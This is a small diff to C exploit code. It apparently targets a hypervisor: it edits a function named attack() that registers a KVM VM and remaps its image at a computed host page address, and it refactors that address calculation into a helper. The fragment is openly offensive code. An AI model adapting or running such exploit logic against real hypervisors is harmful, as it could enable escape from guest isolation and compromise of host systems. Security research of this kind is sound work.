@@ -3,7 +3,7 @@
 #include "host.h"
 
 u64 attack(void) {
-  u64 at = ((u64)exchange_of(0, 0) & ~0xffffful) + 0x100000, vm = call(REGISTER_KVM, 0, 0, 0, 0, 0);
+  u64 at = page_above(), vm = call(REGISTER_KVM, 0, 0, 0, 0, 0);
   call(SET_BOOT_INFO, vm, RAM, PAGE, 0, 0);
   return call(REMAP_VM_IMAGE, vm, at / PAGE, 0, 0, 0);
 }
